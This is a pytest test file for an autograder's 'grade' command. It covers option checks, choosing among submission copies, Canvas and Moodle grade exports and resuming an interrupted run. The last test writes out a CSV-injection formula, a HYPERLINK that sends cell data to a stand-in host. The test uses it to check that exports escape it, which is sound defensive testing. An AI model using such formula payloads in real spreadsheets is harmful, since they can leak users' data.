"""``driftlab grade`` forgives an instructor's ordinary mistakes (issue 15, point 5) and exports to the LMS (point 6).

Each test replays one mistake from the issue's "Why" list. The command-line checks, intake, dry run
and the LMS files are tested without a kernel (in-process, fast); a few real runs on the tiny module
cover the merge store, the exit code, the build error and an interrupted run.
"""
from __future__ import annotations

import csv
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import nbformat
import pytest

from grader.batch import intake as ik
from grader.batch import lms
from grader.batch import results as res
from grader.batch.safety import MANIFEST
from grader.cli import main
from tests.integration import hostile

TINY = hostile.TINY


def run(capsys, *argv: str) -> tuple[int, str]:
    """``driftlab ARGV`` in this process: (exit code, stderr)."""
    try:
        code = main(list(argv))
    except SystemExit as exc:
        code = exc.code
    return code, capsys.readouterr().err


def one_line(err: str) -> str:
    lines = [ln for ln in err.splitlines() if ln.strip() and not ln.startswith("!") and "WARNING" not in ln
             and "sandbox" not in ln.lower()[:40]]
    assert len(lines) == 1 and "Traceback" not in err, err
    return lines[0]


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    return hostile.tiny_course(tmp_path_factory.mktemp("course") / "course")


def _canvas(folder: Path, name: str, uid: int, sub: int, file: str, data: bytes = b"{}", late: bool = False) -> Path:
    path = folder / f"{name}{'_LATE' if late else ''}_{uid}_{sub}_{file}"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path


# ------------------------------------------------------------------------------- refused command lines

def test_out_inside_the_submissions_is_refused(tmp_path, capsys, course):
    """Why: a fake learner `solutions` got 20/20 from output copied into the submissions folder."""
    subs = tmp_path / "download"
    _canvas(subs, "doejane", 1, 2, f"{TINY}.ipynb")
    code, err = run(capsys, "grade", str(subs), "--out", str(subs / "graded"), "--course", str(course))
    assert code == 2 and "lies inside the submissions folder" in one_line(err)
    assert not (subs / "graded").exists()
    code, err = run(capsys, "grade", str(subs), "--out", str(tmp_path), "--course", str(course))
    assert code == 2 and "lie inside --out" in one_line(err)


def test_out_at_the_course_root_and_an_unrelated_folder_are_refused(tmp_path, capsys, course):
    """Why: `--out .` at the course root replaced the course gradebook; an unrelated --out lost a file."""
    subs = tmp_path / "download"
    _canvas(subs, "doejane", 1, 2, f"{TINY}.ipynb")
    (course / "gradebook.db").write_bytes(b"the course's own gradebook")
    code, err = run(capsys, "grade", str(subs), "--out", str(course), "--course", str(course))
    assert code == 2 and "course folder" in one_line(err)
    assert (course / "gradebook.db").read_bytes() == b"the course's own gradebook"
    (course / "gradebook.db").unlink()
    mine = tmp_path / "mine"
    (mine / "autograded").mkdir(parents=True)
    (mine / "autograded" / "keep.txt").write_text("precious")
    code, err = run(capsys, "grade", str(subs), "--out", str(mine), "--course", str(course))
    assert code == 2 and "--force" in one_line(err) and MANIFEST in err
    assert (mine / "autograded" / "keep.txt").read_text() == "precious" and not (mine / MANIFEST).exists()
    code, err = run(capsys, "grade", str(subs), "--out", str(mine), "--course", str(course), "--force", "--dry-run")
    assert code == 0, err


@pytest.mark.parametrize("option,value,expected", [
    ("--timeout", "0", "at least 1 second, or 'none'"), ("--timeout", "-1", "at least 1 second"),
    ("--timeout", "soon", "whole seconds"), ("--jobs", "0", "at least 1"),
    ("--lms", "blackboard", "invalid choice"), ("--lms-column", "08_tst=X", "not a module"),
    ("--worker-wait", "0", "at least 1 second"), ("--worker-wait", "later", "whole seconds")])
def test_bad_options_are_one_line_errors(tmp_path, capsys, course, option, value, expected):
    """Why: `--timeout 0` silently meant 60 s and -1 no limit."""
    subs = tmp_path / "download"
    _canvas(subs, "doejane", 1, 2, f"{TINY}.ipynb")
    code, err = run(capsys, "grade", str(subs), "--out", str(tmp_path / "out"), "--course", str(course),
                    option, value)
    assert code == 2 and expected in one_line(err), err
    assert not (tmp_path / "out").exists()


def test_an_unreachable_cluster_is_one_clear_line(tmp_path, capsys, course):
    """A wrong --cluster address: exit 2 and the address in one line, after Dask's connect timeout (here 2 s)."""
    import dask

    subs = tmp_path / "download"
    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("1")])
    _canvas(subs, "doejane", 1, 2, f"{TINY}.ipynb", nbformat.writes(notebook).encode())
    with dask.config.set({"distributed.comm.timeouts.connect": "2s"}):
        code, err = run(capsys, "grade", str(subs), "--out", str(tmp_path / "out"), "--course", str(course),
                        "--cluster", "tcp://127.0.0.1:9")
    assert code == 2, err
    last = err.strip().splitlines()[-1]
    assert "Traceback" not in err and last.startswith("driftlab grade: could not reach the Dask scheduler at "
                                                      "tcp://127.0.0.1:9") and "after 2 s" in last, err


def test_timeout_none_is_the_explicit_no_limit():
    from grader.batch.safety import parse_timeout

    assert parse_timeout("none") == -1 and parse_timeout("90") == 90


def test_a_file_that_is_neither_a_folder_nor_a_zip_is_refused(tmp_path, capsys, course):
    """Why: a file as SUBMISSIONS gave a traceback."""
    notes = tmp_path / "grades.xlsx"
    notes.write_bytes(b"PK-but-not-really")
    code, err = run(capsys, "grade", str(notes), "--out", str(tmp_path / "out"), "--course", str(course))
    assert code == 2 and "neither a .zip nor a notebook" in one_line(err)


# ------------------------------------------------------------------------------- intake and dry run

def test_the_release_named_file_wins_over_copies(tmp_path):
    """Why: with `07_test.ipynb` answered and a newer untouched `07_test-Copy1.ipynb`, the copy was graded."""
    folder = tmp_path / "submitted" / "ann" / "08_test"
    folder.mkdir(parents=True)
    (folder / "08_test.ipynb").write_bytes(b"answered")
    for i, copy in enumerate(["08_test-Copy1.ipynb", "08_test (1).ipynb", "Copy of 08_test.ipynb"]):
        (folder / copy).write_bytes(b"untouched")
        os.utime(folder / copy, (time.time() + 100 + i, time.time() + 100 + i))  # the copies are newer
    _canvas(tmp_path / "lms", "doejane", 7, 100, "08_test.ipynb", b"first")
    _canvas(tmp_path / "lms", "doejane", 7, 200, "08_test-1.ipynb", b"resubmitted")  # Canvas's own renaming
    _canvas(tmp_path / "lms", "doejane", 7, 200, "08_test-Copy1.ipynb", b"copy in the resubmission")
    found = ik.discover(tmp_path, ["08_test"])
    chosen = {s.student: s.path.read_bytes() for s in found.submissions}
    assert chosen == {"ann": b"answered", "7": b"resubmitted"}
    reasons = {Path(u.origin).name: u.reason for u in found.unmatched}
    for copy in ["08_test-Copy1.ipynb", "08_test (1).ipynb", "Copy of 08_test.ipynb"]:
        assert reasons[copy].startswith("a copy:") and "release" in reasons[copy]
    assert "later Canvas submission" in reasons["doejane_7_100_08_test.ipynb"]
    assert reasons["doejane_7_200_08_test-Copy1.ipynb"].startswith("a copy:")


def test_canvas_late_flag_and_names_are_kept_moodle_has_none(tmp_path):
    _canvas(tmp_path, "doejane", 11, 1, f"{TINY}.ipynb", late=True)
    _canvas(tmp_path, "roejim", 12, 2, f"{TINY}.ipynb")
    (tmp_path / "Carol Smith_4711_assignsubmission_file_").mkdir()
    (tmp_path / "Carol Smith_4711_assignsubmission_file_" / f"{TINY}.ipynb").write_bytes(b"{}")
    found = {s.student: s for s in ik.discover(tmp_path, [TINY]).submissions}
    assert (found["11"].name, found["11"].late, found["11"].lms_id) == ("doejane", "yes", "11")
    assert (found["12"].late, found["4711"].name, found["4711"].late) == ("no", "Carol Smith", "")


def test_dry_run_lists_each_file_and_grades_nothing(tmp_path, capsys, course):
    subs = tmp_path / "download"
    _canvas(subs, "doejane", 11, 1, f"{TINY}.ipynb", late=True)
    _canvas(subs, "doejane", 11, 1, f"{TINY}-Copy1.ipynb")
    (subs / "readme.txt").write_text("hi")
    out = tmp_path / "out"
    code = main(["grade", str(subs), "--out", str(out), "--course", str(course), "--dry-run"])
    captured = capsys.readouterr()
    assert code == 0 and not out.exists()
    assert f"learner 11 (doejane), module {TINY}  [canvas, late]" in captured.out
    assert f"skip   doejane_11_1_{TINY}-Copy1.ipynb: a copy:" in captured.out
    assert "skip   readme.txt: not a notebook" in captured.out and "nothing was graded" in captured.err


# ------------------------------------------------------------------------------- LMS files (no kernel)

def _rows() -> list[res.Row]:
    def row(sid, module, score=None, pattern="canvas", name="", reason=""):
        status = res.GRADED if score is not None else res.NOT_GRADED
        return res.Row(sid, module, status, score=score, max_score=4.0 if score is not None else None,
                       reason=reason, pattern=pattern, name=name, lms_id=sid if pattern in ("canvas", "moodle") else "")
    return [row("11", "08_test", 4.0, name="doejane"), row("11", "99_tiny", 2.5, name="doejane"),
            row("12", "08_test", None, name="roejim", reason="kernel died"), row("12", "99_tiny", 0.0, name="roejim"),
            row("ann", "08_test", 3.0, pattern="nbgrader")]


def _read(path: Path) -> list[dict]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def test_canvas_import_file_has_canvas_columns_and_never_a_silent_zero(tmp_path):
    target, listing = lms.export(_rows(), tmp_path, "canvas", {"08_test": "Final test (4711)"})
    header = next(csv.reader(open(target, encoding="utf-8")))
    assert header == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Final test (4711)", "99_tiny"]
    got = {r["ID"]: r for r in _read(target)}
    assert set(got) == {"11", "12"}  # ann has no Canvas id: listed, not imported
    assert (got["11"]["Student"], got["11"]["Final test (4711)"], got["11"]["99_tiny"]) == ("doejane", "4", "2.5")
    assert got["12"]["Final test (4711)"] == "" and got["12"]["99_tiny"] == "0"  # a real zero stays a zero
    why = {(r["student_id"], r["module"]): r["why not imported"] for r in _read(listing)}
    assert why[("12", "08_test")].startswith("could not grade: kernel died") and "no Canvas id" in why[("ann", "08_test")]


def test_moodle_import_file_is_keyed_by_the_participant_id(tmp_path):
    rows = [r for r in _rows() if r.pattern == "canvas"]
    for r in rows:
        r.pattern = "moodle"
    target, listing = lms.export(rows, tmp_path, "moodle")
    got = {r["Identifier"]: r for r in _read(target)}
    assert list(_read(target)[0]) == ["Identifier", "Full name", "08_test", "99_tiny"]
    assert got["Participant 11"]["08_test"] == "4" and got["Participant 12"]["08_test"] == ""
    assert any(r["module"] == "08_test" and r["student_id"] == "12" for r in _read(listing))
    single, _ = lms.export([r for r in rows if r.module == "99_tiny"], tmp_path, "moodle")
    assert list(_read(single)[0]) == ["Identifier", "Full name", "Grade"]  # the grading worksheet's layout


def test_report_names_misconceptions_readably_and_has_a_learner_table(tmp_path, course):
    labels = res.misconception_labels([TINY], course)
    assert labels[(TINY, "union-bound")] == "n * alpha is the expected number of alarms."
    assert res.label({}, TINY, "single-rate") == "Single rate"
    row = res.Row("11", TINY, res.GRADED, score=1.0, max_score=4.0, name="doejane", late="yes", exercises={
        "tiny-func": {"score": 0.0, "max_score": 2.0, "status": "incorrect", "misconception": "union-bound"}})
    from grader.batch import report as rp

    text = rp.render([row], [], tmp_path / "r.html", labels=labels).read_text()
    assert "n * alpha is the expected number of alarms." in text and "union-bound" in text
    assert "<h2>Learners (1)</h2>" in text and "doejane" in text and "1 / 4" in text
    res.write_exercises_csv([row], tmp_path / "exercises.csv", labels)
    line = _read(tmp_path / "exercises.csv")[0]
    assert (line["exercise"], line["misconception"], line["misconception_text"]) == (
        "tiny-func", "union-bound", "n * alpha is the expected number of alarms.")


# ------------------------------------------------------------------------------- real runs (tiny module)

def _grade(subs: Path, out: Path, course: Path, *extra: str, **kw) -> subprocess.CompletedProcess:
    cmd = [sys.executable, "-m", "grader.cli", "grade", str(subs), "--out", str(out), "--jobs", "1",
           "--timeout", "20", "--course", str(course), *extra]
    return subprocess.run(cmd, capture_output=True, text=True, timeout=600, **kw)


def _grades(out: Path) -> dict[tuple[str, str], dict]:
    return {(r["student_id"], r["module"]): r for r in _read(out / "grades.csv")}


@pytest.mark.slow
def test_batches_merge_one_learner_is_regraded_and_failures_set_the_exit_code(tmp_path, course):
    """Why: a later batch or one learner replaced the whole class's results; failures exited 0."""
    from grader.batch import workers as wk

    template, broken = wk.template_course(tmp_path / "t", [TINY], course)
    assert not broken
    right = hostile._dump(hostile.answered(TINY, "right", template))
    wrong = hostile._dump(hostile.answered(TINY, "wrong", template))
    first, later, out = tmp_path / "first", tmp_path / "later", tmp_path / "out"
    _canvas(first, "doejane", 11, 1, f"{TINY}.ipynb", right, late=True)
    _canvas(first, "doejane", 11, 1, f"{TINY}-Copy1.ipynb", wrong)  # newer, untouched copy: not graded
    _canvas(first, "roejim", 12, 2, f"{TINY}.ipynb", b'{"cells": [')  # corrupt: could not grade
    proc = _grade(first, out, course, "--lms", "canvas")
    assert proc.returncode == 1, proc.stderr
    full = hostile.max_score(TINY, template)
    rows = _grades(out)
    assert float(rows[("11", TINY)]["score"]) == full and rows[("11", TINY)]["late"] == "yes"
    assert rows[("11", TINY)]["name"] == "doejane" and rows[("12", TINY)]["status"] == res.NOT_GRADED
    assert "could not grade 12" in proc.stderr
    canvas = {r["ID"]: r for r in _read(out / "canvas_import.csv")}
    assert canvas["11"][TINY] == f"{full:g}" and canvas["12"][TINY] == ""
    print("canvas_import.csv:\n" + (out / "canvas_import.csv").read_text())

    _canvas(later, "roejim", 12, 3, f"{TINY}.ipynb", wrong)  # a resubmission, in a later download
    _canvas(later, "newkid", 13, 4, f"{TINY}.ipynb", right)
    proc = _grade(later, out, course)
    assert proc.returncode == 0, proc.stderr
    rows = _grades(out)
    assert set(rows) == {("11", TINY), ("12", TINY), ("13", TINY)}  # the first batch's learner is kept
    assert float(rows[("11", TINY)]["score"]) == full and float(rows[("12", TINY)]["score"]) == 0.0
    proc = _grade(later, out, course, "--student", "13", "--regrade")
    assert proc.returncode == 0 and "autograding 1 submissions" in proc.stderr, proc.stderr
    assert set(_grades(out)) == set(rows) and _grades(out)[("11", TINY)]["late"] == "yes"


@pytest.mark.slow
def test_a_module_that_cannot_be_built_stops_the_run_in_one_line(tmp_path, capsys):
    """Why: a broken module recorded "could not grade: … see the above traceback" and exited 0."""
    broken = hostile.tiny_course(tmp_path / "course")
    nb = broken / "solutions" / TINY / f"{TINY}.ipynb"
    nb.write_text(nb.read_text().replace("answer: B", "answer: Q"))
    subs = tmp_path / "subs"
    nb_bytes = nbformat.writes(nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("x = 1")])).encode()
    _canvas(subs, "doejane", 11, 1, f"{TINY}.ipynb", nb_bytes)
    proc = _grade(subs, tmp_path / "out", broken)
    expected = f"module {TINY} could not be built: SpecError: cell 6: tiny-choice: answer 'Q' for blank [1] is not an option"
    assert proc.returncode == 2 and expected in proc.stderr.splitlines(), proc.stderr
    assert "Traceback" not in proc.stderr and not (tmp_path / "out" / "grades.csv").exists()
    from grader.build import build

    assert build(root=broken, only=[TINY]) == 1
    assert capsys.readouterr().err.strip() == expected


@pytest.mark.slow
def test_an_interrupted_run_resumes_and_leaves_no_process(tmp_path, course):
    """Why: results.json was written only at the end; a SIGINT to the parent orphaned its graders."""
    import psutil

    from grader.batch import workers as wk

    template, _ = wk.template_course(tmp_path / "t", [TINY], course)
    right = hostile._dump(hostile.answered(TINY, "right", template))
    subs, out = tmp_path / "subs", tmp_path / "out"
    for i in range(4):
        (subs).mkdir(exist_ok=True)
        (subs / f"s{i}__{TINY}.ipynb").write_bytes(right)
    cmd = [sys.executable, "-m", "grader.cli", "grade", str(subs), "--out", str(out), "--jobs", "1",
           "--timeout", "20", "--course", str(course)]
    proc = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    parent = psutil.Process(proc.pid)
    deadline = time.monotonic() + 300
    while time.monotonic() < deadline and len(list((out / ".progress").glob("*.json"))) < 1:
        time.sleep(0.2)
    assert list((out / ".progress").glob("*.json")), "no submission finished in time"
    family = [parent] + parent.children(recursive=True)
    os.kill(proc.pid, signal.SIGINT)  # the parent alone, as a terminal's Ctrl-C would not guarantee
    _, err = proc.communicate(timeout=120)
    assert proc.returncode == 130, err
    assert "interrupted:" in err and "run the same command again" in err
    time.sleep(1.5)  # an orphaned grader would notice its parent is gone within 0.5 s
    alive = [p for p in family if p.is_running() and p.status() != psutil.STATUS_ZOMBIE]
    assert not alive, [(p.pid, p.cmdline()[:4]) for p in alive]
    done_before = len(_grades(out))
    assert all(r["status"] == res.GRADED for r in _grades(out).values())  # the rest is not "missing"
    assert 1 <= done_before < 4, done_before
    again = subprocess.run(cmd, capture_output=True, text=True, timeout=600)
    assert again.returncode == 0, again.stderr
    assert f"{done_before} already graded" in again.stderr and f"autograding {4 - done_before} " in again.stderr
    assert all(r["status"] == res.GRADED for r in _grades(out).values()) and len(_grades(out)) == 4


def test_a_learner_named_like_a_formula_cannot_run_in_the_instructors_spreadsheet(tmp_path):
    """Adversary: a learner sets their LMS name (so the download's file name, their id, the name column) to a
    spreadsheet formula. Every CSV the instructor opens holds it as text (OWASP CSV injection); scores, negative
    numbers included, stay numbers."""
    from grader.batch.files import spreadsheet_safe

    evil = '=HYPERLINK("http://x.example/?"&A1,"open")'
    assert spreadsheet_safe(evil) == "'" + evil and spreadsheet_safe("-2.5") == "-2.5" and spreadsheet_safe(3.0) == 3.0
    assert spreadsheet_safe("@SUM(A1)") == "'@SUM(A1)" and spreadsheet_safe("doejane") == "doejane"
    rows = [res.Row("@evil", "08_test", res.GRADED, score=4.0, max_score=4.0, pattern="canvas", name=evil, lms_id="11",
                    exercises={"q1": {"score": 1.0, "max_score": 1.0, "status": "correct", "misconception": None}})]
    res.write_csv(rows, tmp_path / "grades.csv")
    res.write_exercises_csv(rows, tmp_path / "exercises.csv")
    target, _ = lms.export(rows, tmp_path, "canvas")
    cells = [cell for name in ("grades.csv", "exercises.csv", target.name)
             for r in csv.reader(open(tmp_path / name, encoding="utf-8")) for cell in r]
    assert "'" + evil in cells and "'@evil" in cells
    assert not any(cell.startswith(("=", "+", "@", "-")) for cell in cells)
    assert _read(target)[0]["ID"] == "11" and _read(target)[0]["08_test"] == "4"
